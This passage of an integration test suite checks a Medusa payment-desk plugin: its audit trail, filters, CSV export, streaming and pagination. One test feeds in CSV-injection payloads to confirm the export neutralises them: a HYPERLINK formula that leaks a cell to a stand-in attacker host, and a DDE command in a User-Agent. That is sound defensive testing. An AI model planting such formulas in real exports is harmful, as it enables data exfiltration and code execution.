import v8 from "node:v8"
import vm from "node:vm"
import { medusaIntegrationTestRunner, TestEventUtils } from "@medusajs/test-utils"
import { ContainerRegistrationKeys, Modules, PaymentEvents } from "@medusajs/framework/utils"
import type { MedusaContainer } from "@medusajs/framework/types"
import { createOrderPaymentCollectionWorkflow, createOrderWorkflow } from "@medusajs/medusa/core-flows"
import http from "node:http"
import { DEMO_ADDRESS, placeOrder, seedStore, SeededStore } from "../../scripts/seed/store"
import { adminHeaders, Api, checkout, customerHeaders, failure } from "../helpers/http"
import { useFakeStripe } from "../helpers/stripe-env"
import { PAYMENT_DESK_MODULE } from "../../src/modules/payment-desk"
import type PaymentDeskModuleService from "../../src/modules/payment-desk/service"
import closeUnpaidOrdersJob from "../../src/jobs/close-unpaid-orders"
import reconcileRefundsJob from "../../src/jobs/reconcile-refunds"
import { creditorReference } from "../../src/utils/bank-transfer/rf-reference"
import { referenceKey } from "../../src/modules/payment-desk/audit-trail"
import { capturedSelects, explainPlan, indexesOf, nodeTypesOf, type PlanNode, seqScansOfBigTables, tablesOver } from "../helpers/query-plans"

jest.setTimeout(300_000)

const stripe = useFakeStripe()

type Entry = Record<string, any>

/** Polls until `check` returns a value that is not undefined, or fails after `ms`. */
async function eventually<T>(check: () => Promise<T | undefined>, ms = 15_000): Promise<T> {
  const until = Date.now() + ms
  for (;;) {
    const value = await check()
    if (value !== undefined) return value
    if (Date.now() > until) throw new Error("Timed out waiting for the audit trail")
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
}

/** RFC 4180 parser for the test's side (quoted fields, doubled quotes, CRLF or LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ""
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (c === '"') {
        quoted = false
      } else {
        field += c
      }
    } else if (c === '"') {
      quoted = true
    } else if (c === ",") {
      row.push(field)
      field = ""
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field)
      rows.push(row)
      row = []
      field = ""
      i++
    } else if (c === "\n") {
      row.push(field)
      rows.push(row)
      row = []
      field = ""
    } else {
      field += c
    }
  }
  if (field || row.length) {
    row.push(field)
    rows.push(row)
  }
  return rows
}

medusaIntegrationTestRunner({
  testSuite: ({ api, getContainer }) => {
    const client = api as Api
    let store: SeededStore
    let admin: { headers: Record<string, string> }

    beforeAll(async () => {
      store = await seedStore(getContainer(), {
        name: "Audit spec",
        paymentProviders: ["pp_manual_bank-transfer", "pp_manual_cash-on-delivery", "pp_stripe_stripe"],
      })
    })

    beforeEach(async () => {
      stripe.refundMode = "succeed"
      admin = await adminHeaders(getContainer(), client)
    })

    const desk = () => getContainer().resolve<PaymentDeskModuleService>(PAYMENT_DESK_MODULE)
    const adminId = async () => {
      const [user] = await getContainer().resolve(Modules.USER).listUsers({ email: "admin@payment-desk.test" })
      return user.id
    }
    const audit = async (query: string) => (await client.get(`/admin/payment-desk/audit?${query}`, admin)).data
    const auditOf = async (orderId: string, extra = "") =>
      (await audit(`order_id=${orderId}&limit=200${extra}`)).audit_entries as Entry[]

    /** An order of 2 × €100 + €10 shipping = €210, awaiting a bank transfer. */
    const awaitingOrder = (email = "buyer@example.com") =>
      placeOrder(getContainer(), store, {
        provider_id: "pp_manual_bank-transfer",
        email,
        items: [{ variant_id: store.variant_ids[0], quantity: 2 }],
      })

    /** Waits for the plugin's subscribers of `event` to finish what `action` sets off. */
    async function settled(event: string, action: () => Promise<unknown>) {
      const done = TestEventUtils.waitSubscribersExecution(event, getContainer().resolve(Modules.EVENT_BUS), {
        timeout: 30_000,
      })
      await action()
      await done
    }

    describe("Medusa's own money buttons", () => {
      it("records a capture and a refund through Medusa's admin routes with source medusa, the admin as actor, once each", async () => {
        const { order_id, payment_id } = await awaitingOrder()
        const userId = await adminId()

        await settled(PaymentEvents.CAPTURED, () => client.post(`/admin/payments/${payment_id}/capture`, { amount: 210 }, admin))
        await settled(PaymentEvents.REFUNDED, () =>
          client.post(`/admin/payments/${payment_id}/refund`, { amount: 30, note: "Damaged box" }, admin)
        )

        const entries = await auditOf(order_id)
        expect(entries.map((e) => [e.action, e.source, Number(e.amount)])).toEqual([
          ["medusa_refund", "medusa", 30],
          ["medusa_capture", "medusa", 210],
        ])
        for (const entry of entries) {
          expect(entry).toMatchObject({
            order_id,
            payment_id,
            actor_type: "user",
            actor_id: userId,
            actor_email: "admin@payment-desk.test",
            actor_name: "Demo Admin",
            currency_code: "eur",
            method: "bank-transfer",
          })
          expect(typeof entry.order_display_id).toBe("number")
        }
        expect(entries[0].note).toBe("Damaged box")

        // The same events delivered again (at least once delivery) add nothing.
        const eventBus = getContainer().resolve(Modules.EVENT_BUS)
        await settled(PaymentEvents.CAPTURED, () => eventBus.emit({ name: PaymentEvents.CAPTURED, data: { id: payment_id } }))
        await settled(PaymentEvents.REFUNDED, () => eventBus.emit({ name: PaymentEvents.REFUNDED, data: { id: payment_id } }))
        expect(await auditOf(order_id)).toHaveLength(2)
      })

      it("records Medusa's mark-as-paid as medusa_mark_as_paid", async () => {
        const container = getContainer()
        const { result: order } = await createOrderWorkflow(container).run({
          input: {
            region_id: store.region_id,
            sales_channel_id: store.sales_channel_id,
            email: "draft@example.com",
            currency_code: "eur",
            shipping_address: DEMO_ADDRESS,
            billing_address: DEMO_ADDRESS,
            items: [{ variant_id: store.variant_ids[0], quantity: 1 }],
          },
        })
        const { result: collections } = await createOrderPaymentCollectionWorkflow(container).run({
          input: { order_id: order.id, amount: 100 },
        })
        await settled(PaymentEvents.CAPTURED, () =>
          client.post(`/admin/payment-collections/${collections[0].id}/mark-as-paid`, { order_id: order.id }, admin)
        )
        const entries = await auditOf(order.id)
        expect(entries).toHaveLength(1)
        expect(entries[0]).toMatchObject({
          action: "medusa_mark_as_paid",
          source: "medusa",
          actor_type: "user",
          actor_id: await adminId(),
          method: "pp_system_default",
        })
        expect(Number(entries[0].amount)).toBe(100)
      })

      it("records the plugin's own receipt once, even when Medusa's capture of the rest follows on the same payment", async () => {
        const { order_id, payment_id } = await awaitingOrder()
        await client.post(
          `/admin/payment-desk/orders/${order_id}/payments`,
          { amount: 110, method: "bank-transfer", reference: "RF18539007547034" },
          admin
        )
        await settled(PaymentEvents.CAPTURED, () => client.post(`/admin/payments/${payment_id}/capture`, { amount: 100 }, admin))

        const entries = await auditOf(order_id)
        expect(entries.map((e) => [e.action, e.source, Number(e.amount)])).toEqual([
          ["medusa_capture", "medusa", 100],
          ["payment_recorded", "payment_desk", 110],
        ])
        // The plugin's entry names its capture, which is how the Medusa audit leaves it out.
        expect(entries[1].metadata.capture_id).toMatch(/^capt_/)
      })

      it("records nothing for the plugin's own Stripe refund, though it emits payment.refunded", async () => {
        const customer = await customerHeaders(client, store, `card-${Date.now()}@example.com`)
        const order = await checkout(client, store, customer, "pp_stripe_stripe", [
          { variant_id: store.variant_ids[0], quantity: 2 },
        ])
        const query = getContainer().resolve(ContainerRegistrationKeys.QUERY)
        const { data } = await query.graph({
          entity: "order",
          fields: ["payment_collections.payments.id"],
          filters: { id: order.id },
        })
        const paymentId = data[0].payment_collections[0].payments[0].id
        await settled(PaymentEvents.CAPTURED, () => client.post(`/admin/payments/${paymentId}/capture`, {}, admin))
        await settled(PaymentEvents.REFUNDED, () =>
          client.post(`/admin/payment-desk/orders/${order.id}/refunds`, { amount: 50 }, admin)
        )

        const medusa = await auditOf(order.id, "&source=medusa")
        expect(medusa.map((e) => [e.action, Number(e.amount)])).toEqual([["medusa_capture", 210]])
        const own = await auditOf(order.id, "&source=payment_desk")
        expect(own.map((e) => e.action)).toContain("refund_succeeded")
        // Medusa has the refund row (booked by the plugin), and still no medusa_refund entry.
        const refunds = await getContainer().resolve(Modules.PAYMENT).listRefunds({ payment_id: paymentId })
        expect(refunds).toHaveLength(1)
      })

      it("records the refunds of Medusa's own cancel, which emits no payment.refunded", async () => {
        const { order_id, payment_id } = await awaitingOrder()
        await settled(PaymentEvents.CAPTURED, () => client.post(`/admin/payments/${payment_id}/capture`, { amount: 210 }, admin))
        await settled("order.canceled", () => client.post(`/admin/orders/${order_id}/cancel`, {}, admin))

        const entries = await eventually(async () => {
          const rows = await auditOf(order_id, "&source=medusa")
          return rows.length === 2 ? rows : undefined
        })
        expect(entries.map((e) => [e.action, Number(e.amount)])).toEqual([
          ["medusa_refund", 210],
          ["medusa_capture", 210],
        ])
        expect(entries[0].metadata.event).toBe("order.canceled")
      })
    })

    describe("filters", () => {
      /** Entries of every kind, straight into the trail, with dates set afterwards by SQL. */
      async function seedEntries(orderId: string) {
        const rows = [
          { action: "payment_recorded", actor_type: "user", actor_id: "user_a", method: "cash", reference: "RF-ALPHA-1", at: "2026-01-10T10:00:00Z" },
          { action: "refund_succeeded", actor_type: "user", actor_id: "user_b", method: "bank-transfer", reference: null, at: "2026-02-10T10:00:00Z" },
          { action: "order_closed", actor_type: "system", actor_id: "close-unpaid-orders", method: null, reference: null, at: "2026-03-10T10:00:00Z" },
          { action: "medusa_capture", actor_type: "user", actor_id: "user_a", method: "bank-transfer", reference: null, source: "medusa", at: "2026-03-11T10:00:00Z" },
          { action: "payment_recorded", actor_type: "customer", actor_id: "cus_x", method: "cash", reference: "BETA-77", at: "2026-04-01T00:00:00Z" },
        ]
        // The trail is append-only (a trigger refuses updates), so the dates are written with the rows.
        const knex = getContainer().resolve(ContainerRegistrationKeys.PG_CONNECTION)
        const ids = rows.map((_, i) => `pdaud_filter_${i}`)
        await knex("payment_desk_audit_entry").insert(
          rows.map(({ at, source, ...row }, i) => ({
            ...row,
            reference_key: referenceKey(row.reference),
            id: ids[i],
            source: source ?? "payment_desk",
            order_id: i < 4 ? orderId : "order_other",
            amount: 10 + i,
            raw_amount: JSON.stringify({ value: String(10 + i), precision: 20 }),
            currency_code: "eur",
            created_at: at,
          }))
        )
        return ids
      }

      it("filters by date, action (one or several), actor, order, method, source and q", async () => {
        const { order_id } = await awaitingOrder()
        const ids = await seedEntries(order_id)
        const [{ display_id }] = (
          await getContainer().resolve(ContainerRegistrationKeys.QUERY).graph({
            entity: "order",
            fields: ["display_id"],
            filters: { id: order_id },
          })
        ).data
        const idsOf = async (query: string) => ((await audit(query)).audit_entries as Entry[]).map((e) => e.id)

        expect(await idsOf("")).toEqual([ids[4], ids[3], ids[2], ids[1], ids[0]])
        expect(await idsOf("created_at_from=2026-02-01&created_at_to=2026-03-10")).toEqual([ids[2], ids[1]])
        expect(await idsOf("created_at_from=2026-03-10T10:00:00Z")).toEqual([ids[4], ids[3], ids[2]])
        expect(await idsOf("action=payment_recorded")).toEqual([ids[4], ids[0]])
        expect(await idsOf("action=payment_recorded&action=order_closed")).toEqual([ids[4], ids[2], ids[0]])
        expect(await idsOf("action=refund_succeeded,order_closed")).toEqual([ids[2], ids[1]])
        expect(await idsOf("actor_id=user_a")).toEqual([ids[3], ids[0]])
        expect(await idsOf("actor_type=system")).toEqual([ids[2]])
        expect(await idsOf(`order_id=${order_id}`)).toEqual([ids[3], ids[2], ids[1], ids[0]])
        expect(await idsOf("method=cash")).toEqual([ids[4], ids[0]])
        expect(await idsOf("source=medusa")).toEqual([ids[3]])
        expect(await idsOf("source=payment_desk&method=bank-transfer")).toEqual([ids[1]])
        expect(await idsOf("q=beta")).toEqual([ids[4]])
        expect(await idsOf(`q=${display_id}`)).toEqual([ids[3], ids[2], ids[1], ids[0]])
        expect(await idsOf(`q=%23${display_id}`)).toEqual([ids[3], ids[2], ids[1], ids[0]])
        expect(await idsOf("q=100%25")).toEqual([])

        const page = await audit("limit=2&offset=1")
        expect(page).toMatchObject({ count: 5, limit: 2, offset: 1 })
        expect(page.audit_entries.map((e: Entry) => e.id)).toEqual([ids[3], ids[2]])
        const system = (await audit("actor_type=system")).audit_entries[0]
        expect(system).toMatchObject({ actor_id: "close-unpaid-orders", actor_name: null, source: "payment_desk" })
        expect(typeof system.order_display_id).toBe("number")
      })

      it("refuses bad filters with 400 naming the field", async () => {
        const bad = async (query: string) => failure(client.get(`/admin/payment-desk/audit?${query}`, admin))
        expect(await bad("actor_type=robot")).toMatchObject({ status: 400, data: { message: expect.stringContaining("actor_type") } })
        expect(await bad("source=stripe")).toMatchObject({ status: 400, data: { message: expect.stringContaining("source") } })
        expect(await bad("created_at_from=yesterday")).toMatchObject({
          status: 400,
          data: { message: expect.stringContaining("created_at_from") },
        })
        expect(await bad("created_at_from=2026-03-01&created_at_to=2026-02-01")).toMatchObject({
          status: 400,
          data: { message: expect.stringContaining("created_at_to") },
        })
        expect(await bad("colour=red")).toMatchObject({ status: 400 })
        expect((await failure(client.get(`/admin/payment-desk/audit/export?source=x`, admin))).status).toBe(400)
        expect((await failure(client.get(`/admin/payment-desk/audit/export`))).status).toBe(401)
        expect((await failure(client.get(`/admin/payment-desk/settings`))).status).toBe(401)
      })
    })

    describe("CSV export", () => {
      it("answers RFC 4180 CSV with a header of field names and the same rows as the JSON list", async () => {
        const { order_id } = await awaitingOrder()
        const tricky = 'Paid "in full", by cheque\nsecond line'
        await client.post(
          `/admin/payment-desk/orders/${order_id}/payments`,
          { amount: 60, method: "cash", note: tricky, reference: "R,1" },
          admin
        )
        await client.post(`/admin/payment-desk/orders/${order_id}/payments`, { amount: 40, method: "cash" }, admin)
        await desk().appendAuditEntries([
          { order_id: "order_other", action: "order_closed", actor_type: "system", actor_id: "close-unpaid-orders" },
        ])

        const response = await client.get(`/admin/payment-desk/audit/export`, { ...admin, responseType: "text" })
        const headers = (response as unknown as { headers: Record<string, string> }).headers
        expect(headers["content-type"]).toBe("text/csv; charset=utf-8")
        expect(headers["content-disposition"]).toMatch(/^attachment; filename="payment-desk-audit-\d{4}-\d{2}-\d{2}\.csv"$/)
        const text = response.data as string
        // The note's quotes are doubled and the field quoted; lines end in CRLF.
        expect(text).toContain('"Paid ""in full"", by cheque\nsecond line"')
        expect(text).toContain(',"R,1",')
        expect(text.endsWith("\r\n")).toBe(true)

        const [header, ...rows] = parseCsv(text)
        expect(header).toEqual([
          "id", "created_at", "source", "action", "order_id", "order_display_id", "payment_id", "amount",
          "currency_code", "method", "reference", "received_at", "note", "actor_type", "actor_id", "actor_name",
          "actor_email", "payment_status_before", "payment_status_after", "order_payment_status_before",
          "order_payment_status_after", "ip", "user_agent", "idempotency_key", "metadata",
        ])
        const json = (await audit("limit=200")).audit_entries as Entry[]
        expect(rows).toHaveLength(json.length)
        expect(rows).toHaveLength(3)
        rows.forEach((row, i) => {
          const record = Object.fromEntries(header.map((name, j) => [name, row[j]]))
          const entry = json[i]
          expect(record.id).toBe(entry.id)
          expect(record.action).toBe(entry.action)
          expect(record.source).toBe(entry.source)
          expect(record.created_at).toBe(new Date(entry.created_at).toISOString())
          expect(record.amount).toBe(entry.amount === null ? "" : String(entry.amount))
          expect(record.note).toBe(entry.note ?? "")
          expect(record.reference).toBe(entry.reference ?? "")
          expect(record.actor_name).toBe(entry.actor_name ?? "")
          expect(record.order_display_id).toBe(entry.order_display_id === null ? "" : String(entry.order_display_id))
          expect(record.metadata).toBe(entry.metadata ? JSON.stringify(entry.metadata) : "")
        })
        expect(rows.find((row) => row[12] === tricky)).toBeDefined()

        // The same filters as the list.
        const filtered = parseCsv(
          (await client.get(`/admin/payment-desk/audit/export?order_id=${order_id}&q=R%2C1`, { ...admin, responseType: "text" }))
            .data as string
        )
        expect(filtered).toHaveLength(2)
        expect(filtered[1][12]).toBe(tricky)
      })

      it("neutralises spreadsheet formulas in the export and keeps at most 512 characters of a User-Agent", async () => {
        const { order_id } = await awaitingOrder()
        const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'
        const agent = `=cmd|' /C calc'!A0 ${"x".repeat(15_000)}`
        await client.post(
          `/admin/payment-desk/orders/${order_id}/payments`,
          { amount: 60, method: "cash", note: formula, reference: "+SUM(1,2)" },
          { headers: { ...admin.headers, "user-agent": agent } }
        )
        const [entry] = (await audit(`order_id=${order_id}&action=payment_recorded`)).audit_entries as Entry[]
        expect((entry as unknown as { user_agent: string }).user_agent).toBe(agent.slice(0, 512))

        const text = (await client.get(`/admin/payment-desk/audit/export?order_id=${order_id}`, { ...admin, responseType: "text" }))
          .data as string
        const [header, ...rows] = parseCsv(text)
        const record = Object.fromEntries(header.map((name, j) => [name, rows.find((row) => row[0] === entry.id)![j]]))
        expect(record).toMatchObject({
          note: `'${formula}`,
          reference: "'+SUM(1,2)",
          user_agent: `'${agent.slice(0, 512)}`,
          amount: "60",
        })

        // The readable export, in German: words, the order number, the amount as written in German, formulas neutralised too.
        const bytes = Buffer.from(
          (await client.get(`/admin/payment-desk/audit/export?order_id=${order_id}&format=readable&language=de`, { ...admin, responseType: "arraybuffer" }))
            .data as ArrayBuffer
        )
        // A UTF-8 byte order mark first, so a spreadsheet reads the umlauts.
        expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
        const german = bytes.subarray(3).toString("utf8")
        const [germanHeader, ...germanRows] = parseCsv(german)
        expect(germanHeader).toEqual(["Zeitpunkt", "Ereignis", "Bestellung", "Betrag", "Zahlungsart", "Verwendungszweck", "Von", "Quelle", "Notiz"])
        const row = germanRows.find((cells) => cells[1] === "Zahlung erfasst")!
        expect(row.slice(2).map((cell) => cell.replace(/\u00a0/g, " "))).toEqual([
          `#${entry.order_display_id}`,
          "60,00 €",
          "Bargeld",
          "'+SUM(1,2)",
          "Demo Admin",
          "Zahlungsdesk",
          `'${formula}`,
        ])
        expect(row[0]).toMatch(/^\d\d\.\d\d\.\d{4}, \d\d:\d\d UTC$/)
        expect(german).not.toMatch(/pdaud_|order_01|payment_recorded/)
        expect((await failure(client.get(`/admin/payment-desk/audit/export?format=pretty`, admin))).status).toBe(400)
        expect((await failure(client.get(`/admin/payment-desk/audit/export?format=readable&language=fr`, admin))).status).toBe(400)
      })

      it("streams 100,000 entries with flat memory, rows in the JSON list's order", async () => {
        const knex = getContainer().resolve(ContainerRegistrationKeys.PG_CONNECTION)
        // One INSERT ... SELECT for the 100,000 entries (2-4 s; one by one through the module they
        // would take minutes). The rows have the shape appendAuditEntries stores: the same columns,
        // amount beside raw_amount in Medusa's { value, precision: 20 } form (the value unpadded,
        // equal as a number; the export reads amount), the unset fields null and updated_at and
        // deleted_at the table's defaults; ids keep the model's "pdaud" prefix, zero-padded so
        // that id order follows created_at (one second apart).
        const inserted = Date.now()
        await knex.raw(`
          insert into payment_desk_audit_entry (id, order_id, action, source, actor_type, actor_id, amount, raw_amount, currency_code, method, reference, reference_key, note, created_at)
          select 'pdaud_bulk_' || lpad(i::text, 6, '0'), 'order_bulk_' || (i % 500), 'payment_recorded', 'payment_desk', 'system', 'bulk',
                 (i % 1000) + 0.5, jsonb_build_object('value', ((i % 1000) + 0.5)::text, 'precision', 20), 'eur', 'cash',
                 'REF-' || i, 'REF-' || i, case when i % 10 = 0 then 'note, "quoted"' else null end,
                 timestamptz '2026-06-01T00:00:00Z' + (i || ' seconds')::interval
          from generate_series(1, 100000) as i`)
        const insertMs = Date.now() - inserted
        // What autovacuum does within a minute of a bulk insert; with stale statistics the planner
        // sorts each page from a bitmap scan (the export then takes ~30 s here instead of a few, memory alike).
        await knex.raw(`analyze payment_desk_audit_entry`)

        const baseURL = (client as unknown as { defaults: { baseURL: string } }).defaults.baseURL
        // The live heap (after a full collection), sampled while the export streams: garbage not
        // yet collected on a busy machine would otherwise count as memory the export holds.
        // Sampled every 10,000 rows received rather than every second: the server runs in this
        // process, a full collection of its ~300 MB heap stops it for ~0.5-1 s, and a timer
        // firing once a second kept it collecting about two thirds of the time (the export took
        // ~90 s instead of ~12 here). Ten samples, taken while the server is mid-export at 10%,
        // 20%, ... of the rows, see any memory that grows with the rows streamed, and their
        // number no longer depends on how fast the machine is.
        v8.setFlagsFromString("--expose-gc")
        const gc = vm.runInNewContext("gc") as () => void
        gc()
        const before = process.memoryUsage().heapUsed
        let peak = before
        let samples = 0
        let gcMs = 0
        const started = Date.now()
        const sample = new Map<number, string>()
        let lines = 0
        let bytes = 0
        let tail = ""
        await new Promise<void>((resolve, reject) => {
          http
            .get(`${baseURL}/admin/payment-desk/audit/export`, { headers: admin.headers }, (res) => {
              expect(res.statusCode).toBe(200)
              res.setEncoding("utf8")
              res.on("data", (chunk: string) => {
                bytes += chunk.length
                const parts = (tail + chunk).split("\r\n")
                tail = parts.pop() ?? ""
                for (const line of parts) {
                  // Line 0 is the header; rows 1, 50,000 and 100,000 are kept (no generated row spans lines).
                  if (lines === 1 || lines === 50_000 || lines === 100_000) sample.set(lines, line)
                  lines++
                  if (lines > 1 && (lines - 1) % 10_000 === 0) {
                    const collecting = Date.now()
                    gc()
                    gcMs += Date.now() - collecting
                    peak = Math.max(peak, process.memoryUsage().heapUsed)
                    samples++
                  }
                }
              })
              res.on("end", () => resolve())
              res.on("error", reject)
            })
            .on("error", reject)
        })
        const exportMs = Date.now() - started
        const growthMb = (peak - before) / 1024 / 1024
        // Figures for the report.
        process.stdout.write(
          `audit export: ${lines - 1} rows, ${(bytes / 1024 / 1024).toFixed(1)} MB in ${exportMs} ms ` +
            `(insert ${insertMs} ms); heap before ${(before / 1024 / 1024).toFixed(1)} MB, peak growth ${growthMb.toFixed(1)} MB over ${samples} samples (${gcMs} ms collecting)\n`
        )
        expect(tail).toBe("")
        expect(lines - 1).toBe(100_000)
        expect(samples).toBe(10)
        expect(growthMb).toBeLessThan(100)

        // Row n of the CSV is entry n of the JSON list (newest first).
        for (const [n, line] of sample) {
          const [entry] = (await audit(`limit=1&offset=${n - 1}`)).audit_entries as Entry[]
          const [row] = parseCsv(line)
          expect(row[0]).toBe(entry.id)
          expect(row[7]).toBe(String(entry.amount))
          expect(row[10]).toBe(entry.reference)
        }
        expect(parseCsv(sample.get(1)!)[0][0]).toBe("pdaud_bulk_100000")
        expect(parseCsv(sample.get(100_000)!)[0][0]).toBe("pdaud_bulk_000001")
      })

      it("reads every page of the audit, refund, bank-line and closed-order lists through an index: no sequential scan of a table over 10,000 rows", async () => {
        const knex = getContainer().resolve(ContainerRegistrationKeys.PG_CONNECTION)
        // 20,000 audit entries, 12,000 refunds, 12,000 bank lines and 12,000 closures, as the module stores them
        // (the runner empties the tables after each test: the export's entries are gone).
        await knex.raw(`
          insert into payment_desk_audit_entry (id, order_id, action, source, actor_type, actor_id, amount, raw_amount, currency_code, method, reference, reference_key, created_at)
          select 'pdaud_bulk_' || lpad(i::text, 6, '0'), 'order_bulk_' || (i % 500), (array['payment_recorded', 'refund_succeeded', 'order_closed'])[1 + i % 3],
                 'payment_desk', 'system', 'bulk', 10, jsonb_build_object('value', '10', 'precision', 20), 'eur', 'cash',
                 'REF-' || i, 'REF-' || i, timestamptz '2026-06-01T00:00:00Z' + (i || ' seconds')::interval
          from generate_series(1, 20000) as i`)
        await knex.raw(`
          insert into payment_desk_refund_request (id, order_id, payment_id, provider_id, amount, raw_amount, currency_code, idempotency_key, status, requested_by_type, requested_at, created_at)
          select 'pdref_bulk_' || lpad(i::text, 6, '0'), 'order_bulk_' || (i % 500), 'pay_bulk_' || i, 'pp_manual_bank-transfer', 10,
                 jsonb_build_object('value', '10', 'precision', 20), 'eur', 'bulk-' || i,
                 (array['succeeded', 'failed', 'awaiting_payout', 'pending'])[1 + i % 4], 'user', now(), timestamptz '2026-06-01T00:00:00Z' + (i || ' minutes')::interval
          from generate_series(1, 12000) as i`)
        await knex.raw(`
          insert into payment_desk_bank_transaction (id, bank_statement_id, line, account, dedupe_key, direction, amount, raw_amount, currency_code, booking_date, status)
          select 'pdbtx_bulk_' || lpad(i::text, 6, '0'), 'pdbst_bulk_' || (i / 1000), i % 1000, 'DE89370400440532013000', 'bulk-' || i, 'credit', 25,
                 jsonb_build_object('value', '25', 'precision', 20), 'eur', timestamptz '2026-06-01T00:00:00Z' + ((i / 50) || ' days')::interval,
                 (array['recorded', 'review', 'ignored', 'matched'])[1 + i % 4]
          from generate_series(1, 12000) as i`)
        await knex.raw(`
          insert into payment_desk_order_closure (id, order_id, actor_type, reason, refunded_amount, raw_refunded_amount, currency_code, source, closed_at)
          select 'pdclo_bulk_' || lpad(i::text, 6, '0'), 'order_bulk_closed_' || i, 'system',
                 (array['payment_timeout', 'customer_request', 'out_of_stock'])[1 + i % 3], 0, jsonb_build_object('value', '0', 'precision', 20),
                 'eur', 'payment_desk', timestamptz '2026-06-01T00:00:00Z' + (i || ' minutes')::interval
          from generate_series(1, 12000) as i`)
        await knex.raw(`analyze payment_desk_refund_request; analyze payment_desk_bank_transaction; analyze payment_desk_audit_entry; analyze payment_desk_order_closure`)
        const big = await tablesOver(knex, 10_000)
        expect([...big].sort()).toEqual(
          expect.arrayContaining(["payment_desk_audit_entry", "payment_desk_bank_transaction", "payment_desk_order_closure", "payment_desk_refund_request"])
        )

        // Counts: exact up to 10,000 rows, past that PostgreSQL's estimate, said so.
        const counted = async (url: string) => {
          const { data } = await client.get(url, admin)
          return { count: data.count as number, estimated: data.count_estimated as boolean }
        }
        const everything = await counted("/admin/payment-desk/audit?limit=1")
        expect(everything.estimated).toBe(true)
        expect(everything.count).toBeGreaterThan(15_000)
        expect(everything.count).toBeLessThan(25_000)
        expect(await counted("/admin/payment-desk/refunds?limit=1&status=failed")).toEqual({ count: 3_000, estimated: false })
        expect(await counted("/admin/payment-desk/bank-transactions?limit=1&status=review")).toEqual({ count: 3_000, estimated: false })
        expect(await counted("/admin/payment-desk/audit?limit=1&action=order_closed")).toEqual({ count: 6_667, estimated: false })
        expect(await counted("/admin/payment-desk/closures?limit=1&reason=payment_timeout")).toEqual({ count: 4_000, estimated: false })
        const closed = await counted("/admin/payment-desk/closures?limit=1")
        expect(closed.estimated).toBe(true)
        expect(closed.count).toBeGreaterThan(10_000)

        // Keyset pages: the same entries as offset pages, the oldest page without an offset, and back again.
        const idsAt = async (query: string) => {
          const { data } = await client.get(`/admin/payment-desk/audit?limit=20&${query}`, admin)
          return { ids: (data.audit_entries as Entry[]).map((entry) => entry.id), cursors: data.cursors as { first: string; last: string } }
        }
        const first = await idsAt("")
        const second = await idsAt(`after=${first.cursors.last}`)
        expect(second.ids).toEqual((await idsAt("offset=20")).ids)
        expect((await idsAt(`before=${second.cursors.first}`)).ids).toEqual(first.ids)
        const oldest = await idsAt("page=last")
        expect(oldest.ids[oldest.ids.length - 1]).toBe("pdaud_bulk_000001")
        expect(oldest.ids).toEqual((await idsAt("offset=19980")).ids)
        expect((await idsAt(`after=${oldest.cursors.last}`)).ids).toEqual([])
        expect((await idsAt(`action=order_closed&page=last`)).ids[19]).toBe("pdaud_bulk_000002")
        for (const [query, field] of [
          ["after=not-a-cursor!", "after"],
          [`after=${Buffer.from("yesterday|pdaud_x").toString("base64url")}`, "after"],
          [`after=${first.cursors.last}&page=last`, "after"],
          [`offset=20&page=last`, "offset"],
        ]) {
          const bad = await failure(client.get(`/admin/payment-desk/audit?${query}`, admin))
          expect(bad.status).toBe(400)
          expect(bad.data.message).toContain(`${field}:`)
        }

        // The bank lines by keyset too: the same lines as offset pages, the last page read backwards.
        const lineIds = async (query: string) => {
          const { data } = await client.get(`/admin/payment-desk/bank-transactions?limit=20&${query}`, admin)
          return { ids: (data.bank_transactions as Entry[]).map((line) => line.id), cursors: data.cursors as { first: string; last: string } }
        }
        const firstLines = await lineIds("")
        const secondLines = await lineIds(`after=${firstLines.cursors.last}`)
        expect(secondLines.ids).toEqual((await lineIds("offset=20")).ids)
        expect((await lineIds(`before=${secondLines.cursors.first}`)).ids).toEqual(firstLines.ids)
        const lastLines = await lineIds("page=last")
        expect(lastLines.ids).toEqual((await lineIds("offset=11980")).ids)
        expect((await lineIds(`after=${lastLines.cursors.last}`)).ids).toEqual([])
        expect((await lineIds("status=review&page=last")).ids).toEqual((await lineIds("status=review&offset=2980")).ids)
        for (const [query, field] of [
          ["after=not-a-cursor!", "after"],
          [`after=${firstLines.cursors.last}&page=last`, "after"],
          ["offset=20&page=last", "offset"],
        ]) {
          const bad = await failure(client.get(`/admin/payment-desk/bank-transactions?${query}`, admin))
          expect(bad.status).toBe(400)
          expect(bad.data.message).toContain(`${field}:`)
        }

        // Refunds and closed orders by keyset too: the same rows as offset pages, filtered as well; the last
        // page read backwards; a cursor of another list, two cursors or a cursor with an offset refused.
        const keysetList = (path: string, rowsKey: string) => async (query: string) => {
          const { data } = await client.get(`/admin/payment-desk/${path}?limit=20&${query}`, admin)
          return { ids: (data[rowsKey] as Entry[]).map((row) => row.id as string), cursors: data.cursors as { first: string; last: string } }
        }
        const listCursors: Record<string, { first: string; last: string }> = {}
        for (const [path, rowsKey, total, filter, filtered] of [
          ["refunds", "refund_requests", 12_000, "status=failed", 3_000],
          ["closures", "closures", 12_000, "reason=payment_timeout", 4_000],
        ] as const) {
          const ids = keysetList(path, rowsKey)
          const firstPage = await ids("")
          const secondPage = await ids(`after=${firstPage.cursors.last}`)
          expect(secondPage.ids).toHaveLength(20)
          expect(secondPage.ids).toEqual((await ids("offset=20")).ids)
          expect((await ids(`before=${secondPage.cursors.first}`)).ids).toEqual(firstPage.ids)
          const lastPage = await ids("page=last")
          expect(lastPage.ids[19]).toBe(`${path === "refunds" ? "pdref" : "pdclo"}_bulk_000001`)
          expect(lastPage.ids).toEqual((await ids(`offset=${total - 20}`)).ids)
          expect((await ids(`after=${lastPage.cursors.last}`)).ids).toEqual([])
          expect((await ids(`before=${firstPage.cursors.first}`)).ids).toEqual([])
          const filteredFirst = await ids(filter)
          expect((await ids(`${filter}&after=${filteredFirst.cursors.last}`)).ids).toEqual((await ids(`${filter}&offset=20`)).ids)
          expect((await ids(`${filter}&page=last`)).ids).toEqual((await ids(`${filter}&offset=${filtered - 20}`)).ids)
